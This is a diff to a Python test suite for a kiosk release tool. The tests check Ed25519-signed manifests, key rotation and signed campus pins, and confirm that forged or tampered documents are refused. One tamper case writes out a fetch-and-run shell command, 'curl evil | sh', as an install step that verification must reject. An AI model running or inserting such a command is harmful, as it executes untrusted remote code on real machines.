@@ -367,9 +367,20 @@ def pem_public(key):
 def keys():
     key = ed25519.Ed25519PrivateKey.generate()
     other = ed25519.Ed25519PrivateKey.generate()
-    return {"private": pem_private(key).decode(), "public": pem_public(key), "other_public": pem_public(other),
+    return {"private": pem_private(key).decode(), "public": pem_public(key),
+            "other_private": pem_private(other), "other_public": pem_public(other),
             "ec_private": pem_private(ec.generate_private_key(ec.SECP256R1())),
             "ec_public": pem_public(ec.generate_private_key(ec.SECP256R1()))}
+
+
+def refused(fn, *args, match=None, **kwargs):
+    """Call ``fn`` expecting SignatureError (a ReleaseError, a ValueError); return its message."""
+    with pytest.raises(fleet_release.SignatureError) as info:
+        fn(*args, **kwargs)
+    assert isinstance(info.value, ReleaseError) and isinstance(info.value, ValueError)
+    if match is not None:
+        assert re.search(match, str(info.value)), str(info.value)
+    return str(info.value)
 
 
 def test_signed_manifest_verifies_after_a_round_trip_through_json(manifest, keys):
@@ -378,11 +389,23 @@ def test_signed_manifest_verifies_after_a_round_trip_through_json(manifest, keys
     assert signed["signature"]["alg"] == "ed25519"
     assert len(base64.b64decode(signed["signature"]["value"])) == 64
     on_disk = json.loads(json.dumps(signed, indent=1))
-    fleet_release.verify_signature(on_disk, keys["public"])
-    fleet_release.verify_signature(on_disk, keys["public"].decode())
+    assert fleet_release.verify(on_disk, [keys["public"]], "manifest") is on_disk
+    fleet_release.verify(on_disk, keys["public"].decode(), "manifest")  # one PEM, as str
+    fleet_release.verify(on_disk, fleet_release.verify_keys([keys["public"]]), "manifest")  # loaded keys
     fleet_release.validate_manifest(on_disk, "kiosk-ui", "1.4.0")
     # re-signing a signed manifest signs the same body
     assert fleet_release.sign_manifest(signed, keys["private"])["signature"] == signed["signature"]
+
+
+def test_rotation_any_key_of_the_list_verifies(manifest, keys):
+    signed = fleet_release.sign(manifest, keys["private"])
+    # old and new key both in pillar during a rotation, in either order
+    fleet_release.verify(signed, [keys["other_public"], keys["public"]], "manifest")
+    fleet_release.verify(signed, [keys["public"].decode(), keys["other_public"].decode()], "manifest")
+    by_other = fleet_release.sign(manifest, keys["other_private"])
+    fleet_release.verify(by_other, [keys["other_public"], keys["public"]], "manifest")
+    # the retired key dropped from the list: its signatures no longer verify
+    refused(fleet_release.verify, by_other, [keys["public"]], "manifest", match=r"^manifest\.signature: does not match")
 
 
 @pytest.mark.parametrize(
@@ -394,18 +417,20 @@ def test_signed_manifest_verifies_after_a_round_trip_through_json(manifest, keys
         lambda d: d.update(install=["/bin/sh", "-c", "curl evil | sh"]),
         lambda d: d.update(version="1.4.1"),
         lambda d: d.update(rollback_of="1.3"),
+        lambda d: d.update(extra_field=True),
     ],
 )
 def test_a_tampered_manifest_fails_verification(manifest, keys, tamper):
     signed = fleet_release.sign_manifest(manifest, keys["private"])
     tampered = copy.deepcopy(signed)
     tamper(tampered)
-    raises(fleet_release.verify_signature, tampered, keys["public"], match=r"^manifest\.signature: does not match")
+    refused(fleet_release.verify, tampered, [keys["public"]], "manifest", match=r"^manifest\.signature: does not match")
 
 
 def test_another_key_fails_verification(manifest, keys):
     signed = fleet_release.sign_manifest(manifest, keys["private"])
-    raises(fleet_release.verify_signature, signed, keys["other_public"], match="does not match")
+    refused(fleet_release.verify, signed, [keys["other_public"]], "manifest", match=r"^manifest\.signature: does not match")
+    refused(fleet_release.verify_signature, signed, keys["other_public"], match=r"^manifest\.signature: does not match")
 
 
 @pytest.mark.parametrize(
@@ -415,22 +440,148 @@ def test_another_key_fails_verification(manifest, keys):
 def test_a_missing_signature_is_refused(manifest, keys, signature):
     if signature is not None:
         manifest["signature"] = signature
-    raises(fleet_release.verify_signature, manifest, keys["public"], match=r"^manifest\.signature: missing")
+    refused(fleet_release.verify, manifest, [keys["public"]], "manifest", match=r"^manifest\.signature: missing")
 
 
-@pytest.mark.parametrize("value", ["not base64 !!", base64.b64encode(b"short").decode(), ""])
-def test_a_garbage_signature_value_does_not_match(manifest, keys, value):
+@pytest.mark.parametrize("value, match", [("not base64 !!", "not base64"),
+                                          (base64.b64encode(b"short").decode(), "does not match"),
+                                          ("", "does not match")])
+def test_a_garbage_signature_value_is_refused(manifest, keys, value, match):
     manifest["signature"] = {"alg": "ed25519", "value": value}
-    raises(fleet_release.verify_signature, manifest, keys["public"], match="does not match")
+    refused(fleet_release.verify, manifest, [keys["public"]], "index.pin", match=rf"^index\.pin\.signature: {match}")
 
 
-def test_only_ed25519_keys_are_accepted(manifest, keys):
-    raises(fleet_release.sign_manifest, manifest, keys["ec_private"], match="^signing_key: expected an Ed25519 private key")
+@pytest.mark.parametrize("doc", [None, [], "signed", 5])
+def test_a_document_that_is_no_object_is_refused(keys, doc):
+    refused(fleet_release.verify, doc, [keys["public"]], "manifest", match=r"^manifest: expected a signed JSON object")
+
+
+@pytest.mark.parametrize("value", [None, "", []])
+def test_no_verify_key_refuses_to_work_unsigned(manifest, keys, value):
     signed = fleet_release.sign_manifest(manifest, keys["private"])
-    raises(fleet_release.verify_signature, signed, keys["ec_public"], match="^verify_key: expected an Ed25519 public key")
-    raises(fleet_release.sign_manifest, manifest, "not a key", match="^signing_key: not a PEM private key")
-    raises(fleet_release.verify_signature, signed, b"junk", match="^verify_key: not a PEM public key")
-    raises(fleet_release.verify_signature, signed, keys["private"], match="^verify_key: ")
+    message = refused(fleet_release.verify, signed, value, "manifest", match=r"^kiosk_release:verify_key: missing from pillar")
+    assert "refusing to work unsigned" in message
+    refused(fleet_release.verify_keys, value, match=r"^kiosk_release:verify_key: missing from pillar")
+
+
+@pytest.mark.parametrize(
+    "value, match",
+    [
+        (5, r"^kiosk_release:verify_key: expected a PEM public key or a list of them, got int"),
+        ({"key": "x"}, r"^kiosk_release:verify_key: expected a PEM public key or a list of them, got dict"),
+        ("junk", r"^kiosk_release:verify_key: not a PEM public key"),
+        (["junk"], r"^kiosk_release:verify_key\[0\]: not a PEM public key"),
+        ([None], r"^kiosk_release:verify_key\[0\]: expected a PEM public key, got NoneType"),
+        ("EC", r"^kiosk_release:verify_key: expected an Ed25519 public key"),
+        ("PRIVATE", r"^kiosk_release:verify_key: not a PEM public key"),
+    ],
+)
+def test_garbage_verify_keys_are_refused_naming_the_field(manifest, keys, value, match):
+    value = {"EC": keys["ec_public"], "PRIVATE": keys["private"]}.get(value, value) if isinstance(value, str) else value
+    signed = fleet_release.sign_manifest(manifest, keys["private"])
+    refused(fleet_release.verify, signed, value, "manifest", match=match)
+    # a good key next to a bad one is no excuse: the whole setting is refused
+    refused(fleet_release.verify_keys, [keys["public"], 5], match=r"^kiosk_release:verify_key\[1\]: expected a PEM")
+
+
+def test_only_ed25519_signing_keys_are_accepted(manifest, keys):
+    refused(fleet_release.sign_manifest, manifest, keys["ec_private"],
+            match=r"^kiosk_release\.signing_key: expected an Ed25519 private key")
+    message = refused(fleet_release.sign, manifest, "not a key", match=r"^kiosk_release\.signing_key: not a PEM private key")
+    assert "not a key" not in message  # never echo what was given (it could be key material)
+    refused(fleet_release.sign, manifest, None, match=r"^kiosk_release\.signing_key: expected an Ed25519 private key in PEM")
+
+
+# --------------------------------------------------------------------------- the signed campus pin
+
+NOW = 1_800_000_000
+
+
+def signed_pin(keys, version="1.4.0", serial=NOW, campus="east", name="kiosk-ui", signed_at=NOW, key="private"):
+    return fleet_release.sign_pin(name, campus, version, serial, keys[key], signed_at=signed_at)
+
+
+def test_a_signed_pin_verifies_for_its_campus_and_release(keys):
+    pin = signed_pin(keys)
+    assert set(pin) == {"kind", "name", "campus", "version", "serial", "signed_at", "signature"}
+    assert (pin["kind"], pin["campus"], pin["serial"]) == ("pin", "east", NOW)
+    on_disk = json.loads(json.dumps(pin))
+    assert fleet_release.verify_pin(on_disk, [keys["public"]], "kiosk-ui", "east") == pin
+    # from the CLI: the pin as JSON text
+    assert fleet_release.verify_pin(json.dumps(pin), [keys["public"]], "kiosk-ui", "east") == pin
+    frozen = signed_pin(keys, version=None)
+    assert fleet_release.verify_pin(frozen, [keys["public"]], "kiosk-ui", "east")["version"] is None
+    # signed_at defaults to the clock
+    fresh = fleet_release.sign_pin("kiosk-ui", "east", "1.4.0", 7, keys["private"])
+    assert abs(fresh["signed_at"] - fleet_release.time.time()) < 60
+
+
+def test_a_pin_for_another_campus_or_release_is_refused(keys):
+    pin = signed_pin(keys, campus="west")
+    refused(fleet_release.verify_pin, pin, [keys["public"]], "kiosk-ui", "east",
+            match=r"^pin\.campus: 'west' is not this minion's campus 'east'")
+    refused(fleet_release.verify_pin, signed_pin(keys), [keys["public"]], "kiosk-app", "east",
+            match=r"^pin\.name: 'kiosk-ui' is not release 'kiosk-app'")
+
+
+def test_a_serial_more_than_a_day_ahead_of_its_signing_time_is_refused(keys):
+    day = fleet_release.MAX_SERIAL_AHEAD
+    assert day == 86400
+    assert fleet_release.verify_pin(signed_pin(keys, serial=NOW + day), [keys["public"]], "kiosk-ui", "east")
+    refused(fleet_release.verify_pin, signed_pin(keys, serial=NOW + day + 1), [keys["public"]], "kiosk-ui", "east",
+            match=rf"^pin\.serial: {NOW + day + 1} is more than 86400 s ahead of its signing time {NOW}")
+    refused(fleet_release.verify_pin, signed_pin(keys, serial=10**15), [keys["public"]], "kiosk-ui", "east",
+            match=r"^pin\.serial: 1000000000000000 is more than")
+
+
+@pytest.mark.parametrize(
+    "tamper",
+    [
+        lambda p: p.update(serial=10**15),  # the frozen-kiosk forgery
+        lambda p: p.update(version="1.3.0"),
+        lambda p: p.update(campus="west"),
+        lambda p: p.update(signed_at=p["signed_at"] + 10**9),
+        lambda p: p.update(version=None),
+    ],
+)
+def test_a_tampered_pin_is_refused(keys, tamper):
+    pin = signed_pin(keys)
+    tamper(pin)
+    refused(fleet_release.verify_pin, pin, [keys["public"]], "kiosk-ui", pin["campus"],
+            match=r"^pin\.signature: does not match")
+
+
+def test_a_pin_by_another_key_or_unsigned_is_refused(keys):
+    refused(fleet_release.verify_pin, signed_pin(keys, key="other_private"), [keys["public"]], "kiosk-ui", "east",
+            match=r"^pin\.signature: does not match")
+    bare = fleet_release.build_pin("kiosk-ui", "east", "1.4.0", 10**15, signed_at=NOW)
+    refused(fleet_release.verify_pin, bare, [keys["public"]], "kiosk-ui", "east", match=r"^pin\.signature: missing")
+    refused(fleet_release.verify_pin, {"version": "1.4.0", "serial": 10**15}, [keys["public"]], "kiosk-ui", "east",
+            match=r"^pin\.signature: missing")
+    refused(fleet_release.verify_pin, signed_pin(keys), None, "kiosk-ui", "east",
+            match=r"^kiosk_release:verify_key: missing from pillar")
+    for garbage in ("{not json", 5, ["pin"]):
+        refused(fleet_release.verify_pin, garbage, [keys["public"]], "kiosk-ui", "east", match=r"^pin: ")
+
+
+def test_a_signed_manifest_is_no_pin(manifest, keys):
+    # same key, other kind of document: a signature never moves from one to the other
+    doc = fleet_release.sign_manifest(dict(manifest, campus="east", serial=NOW, signed_at=NOW), keys["private"])
+    refused(fleet_release.verify_pin, doc, [keys["public"]], "kiosk-ui", "east", match=r"^pin\.kind: None is not a pin")
+
+
+@pytest.mark.parametrize(
+    "kwargs, match",
+    [
+        ({"serial": -1}, r"^pin\.serial: "), ({"serial": "x"}, r"^pin\.serial: "), ({"serial": 2.5}, r"^pin\.serial: "),
+        ({"serial": True}, r"^pin\.serial: "), ({"campus": "../x"}, r"^pin\.campus: "), ({"name": ""}, r"^pin\.name: "),
+        ({"version": 1.1}, r"^pin\.version: "), ({"signed_at": -5}, r"^pin\.signed_at: "),
+    ],
+)
+def test_build_pin_refuses_bad_fields(kwargs, match):
+    args = {"name": "kiosk-ui", "campus": "east", "version": "1.4.0", "serial": 1, "signed_at": NOW, **kwargs}
+    raises(fleet_release.build_pin, args.pop("name"), args.pop("campus"), args.pop("version"), args.pop("serial"),
+           match=match, **args)
 
 
 # --------------------------------------------------------------------------- repository index
@@ -454,37 +605,55 @@ def test_new_index_and_add(manifest):
     assert fleet_release.validate_index(idx, "kiosk-ui") is idx
 
 
-def test_pin_a_staged_version_and_only_forward(index):
-    pinned = fleet_release.index_pin(index, "1.4.0", 3)
+def test_pin_a_staged_version_and_only_forward(index, keys):
+    pinned = fleet_release.index_pin(index, signed_pin(keys, "1.4.0", 3))
     assert index["pin"] is None  # a new dict
-    assert pinned["pin"]["version"] == "1.4.0" and pinned["pin"]["serial"] == 3
-    assert fleet_release.validate_index(pinned, "kiosk-ui")
-    assert fleet_release.index_pin(pinned, "1.3.0", 3)["pin"]["version"] == "1.3.0"  # same serial: replayed
-    assert fleet_release.index_pin(pinned, "1.3.0", "4")["pin"]["serial"] == 4
-    message = raises(fleet_release.index_pin, pinned, "1.3.0", 2)
+    assert pinned["pin"] == signed_pin(keys, "1.4.0", 3)  # stored as signed: kiosks verify it again
+    assert fleet_release.verify_index(pinned, "kiosk-ui", [keys["public"]], "east") is pinned
+    assert fleet_release.index_pin(pinned, signed_pin(keys, "1.3.0", 3))["pin"]["version"] == "1.3.0"  # replayed
+    assert fleet_release.index_pin(pinned, signed_pin(keys, "1.3.0", 4))["pin"]["serial"] == 4
+    message = raises(fleet_release.index_pin, pinned, signed_pin(keys, "1.3.0", 2))
     assert message.startswith("serial: 2 is older than this repository's pin serial 3")
 
 
-def test_pin_an_unknown_version_is_refused_naming_what_is_staged(index):
-    message = raises(fleet_release.index_pin, index, "1.5.0", 1)
+def test_an_index_stores_signed_pins_only(index, keys):
+    bare = fleet_release.build_pin("kiosk-ui", "east", "1.4.0", 3, signed_at=NOW)
+    refused(fleet_release.index_pin, index, bare, match=r"^pin\.signature: missing")
+    refused(fleet_release.index_pin, index, None, match=r"^pin\.signature: missing")
+
+
+def test_pin_an_unknown_version_is_refused_naming_what_is_staged(index, keys):
+    message = raises(fleet_release.index_pin, index, signed_pin(keys, "1.5.0", 1))
     assert message == "version: 1.5.0 is not staged here (staged: 1.3.0, 1.4.0)"
-    assert "staged: none" in raises(fleet_release.index_pin, fleet_release.new_index("x"), "1.0", 1)
+    assert "staged: none" in raises(fleet_release.index_pin, fleet_release.new_index("x"), signed_pin(keys, "1.0", 1))
 
 
-def test_pin_to_none_freezes_the_campus(index):
-    frozen = fleet_release.index_pin(fleet_release.index_pin(index, "1.4.0", 1), None, 2)
+def test_pin_to_none_freezes_the_campus(index, keys):
+    frozen = fleet_release.index_pin(fleet_release.index_pin(index, signed_pin(keys, "1.4.0", 1)),
+                                     signed_pin(keys, None, 2))
     assert frozen["pin"]["version"] is None and frozen["pin"]["serial"] == 2
-    assert fleet_release.validate_index(frozen, "kiosk-ui") is frozen
+    assert fleet_release.verify_index(frozen, "kiosk-ui", [keys["public"]], "east") is frozen
 
 
-@pytest.mark.parametrize("serial", [-1, "x", None, True, [], "1.5"])
-def test_bad_pin_serial_is_refused(index, serial):
-    assert raises(fleet_release.index_pin, index, "1.4.0", serial).startswith("serial: ")
+@pytest.mark.parametrize("serial", [-1, "x", None, True, [], "1.5", 2.5])
+def test_bad_pin_serial_is_refused(index, keys, serial):
+    pin = dict(signed_pin(keys), serial=serial)  # the index never sees such a pin verified; still refused
+    assert raises(fleet_release.index_pin, index, pin).startswith("pin.serial: ")
 
 
-def test_a_fractional_pin_serial_is_refused(index):
-    # regression: serial=2.5 (a float from the salt CLI) was truncated to 2, not refused
-    raises(fleet_release.index_pin, index, "1.4.0", 2.5, match="^serial: ")
+def test_verify_index_checks_the_pin_with_the_same_function(index, keys):
+    assert fleet_release.verify_index(index, "kiosk-ui", [keys["public"]], "east") is index  # no pin yet
+    forged = dict(index, pin=dict(signed_pin(keys, "1.3.0"), serial=10**15))
+    refused(fleet_release.verify_index, forged, "kiosk-ui", [keys["public"]], "east",
+            match=r"^index\.pin\.signature: does not match")
+    other_key = dict(index, pin=signed_pin(keys, "1.3.0", 10**15, signed_at=10**15, key="other_private"))
+    refused(fleet_release.verify_index, other_key, "kiosk-ui", [keys["public"]], "east",
+            match=r"^index\.pin\.signature: does not match")
+    west = fleet_release.index_pin(index, signed_pin(keys, campus="west"))
+    refused(fleet_release.verify_index, west, "kiosk-ui", [keys["public"]], "east", match=r"^index\.pin\.campus: ")
+    unsigned = dict(index, pin={"version": "1.3.0", "serial": 10**15, "pinned_at": "x"})
+    refused(fleet_release.verify_index, unsigned, "kiosk-ui", [keys["public"]], "east",
+            match=r"^index\.pin\.signature: missing")
 
 
 @pytest.mark.parametrize(
@@ -510,16 +679,14 @@ def test_validate_index_refuses_non_objects():
     raises(fleet_release.validate_index, [], "app", match="^index: ")
 
 
-def test_choose_pin_follows_the_highest_serial_and_ignores_down_pis(index):
-    behind = fleet_release.index_pin(index, "1.3.0", 4)
-    ahead = fleet_release.index_pin(index, "1.4.0", 5)
+def test_choose_pin_follows_the_highest_serial_and_ignores_down_pis(index, keys):
+    behind = fleet_release.index_pin(index, signed_pin(keys, "1.3.0", 4))
+    ahead = fleet_release.index_pin(index, signed_pin(keys, "1.4.0", 5))
     choice = fleet_release.choose_pin({"http://a/": behind, "http://b/": None, "http://c/": ahead, "http://d/": index})
-    assert choice == {"version": "1.4.0", "serial": 5, "repo": "http://c/"}
+    assert choice == {"version": "1.4.0", "serial": 5, "repo": "http://c/", "signed_at": NOW}
     assert fleet_release.choose_pin({"http://c/": ahead, "http://a/": behind})["repo"] == "http://c/"
-    frozen = fleet_release.index_pin(index, None, 6)
+    frozen = fleet_release.index_pin(index, signed_pin(keys, None, 6))
     assert fleet_release.choose_pin({"http://a/": ahead, "http://b/": frozen})["version"] is None
-    assert fleet_release.choose_pin({"http://a/": None, "http://b/": index}) is None
-    assert fleet_release.choose_pin({}) is None
 
 
 def test_prune_plan_keeps_current_and_previous():
@@ -775,3 +942,27 @@ def test_index_versions_must_be_versions():
     index = {"format": 1, "name": "app", "versions": {"../../x": {}}, "pin": None}
     with pytest.raises(fleet_release.ReleaseError, match="index.versions"):
         fleet_release.validate_index(index, "app")
+
+
+# --------------------------------------------------------------------------- error classes, installed records
+
+
+def test_a_hash_mismatch_is_an_integrity_error_not_a_signature_error():
+    with pytest.raises(fleet_release.IntegrityError) as info:
+        fleet_release.compare(entry(APP), entry(CONF), "kiosk-ui 1.4.0 app.zip")
+    assert not isinstance(info.value, fleet_release.SignatureError)
+    assert str(info.value).startswith("kiosk-ui 1.4.0 app.zip: size mismatch")
+
+
+def test_read_installed_reports_records_and_skips_what_it_cannot_read(tmp_path):
+    assert fleet_release.read_installed(str(tmp_path / "absent")) == {}
+    (tmp_path / "kiosk-app").mkdir()
+    record = {"version": "1.4.0", "previous": "1.3.0", "serial": NOW, "signed_at": NOW, "installed_at": "x"}
+    fleet_release.write_json_atomic(str(tmp_path / "kiosk-app" / "installed.json"), record)
+    (tmp_path / "torn").mkdir()
+    (tmp_path / "torn" / "installed.json").write_text('{"version": "1.')
+    (tmp_path / "odd").mkdir()
+    (tmp_path / "odd" / "installed.json").write_text('["1.0.0"]')
+    (tmp_path / ".staging").mkdir()
+    (tmp_path / ".staging" / "installed.json").write_text('{"version": "6.6.6"}')
+    assert fleet_release.read_installed(str(tmp_path)) == {"kiosk-app": record}
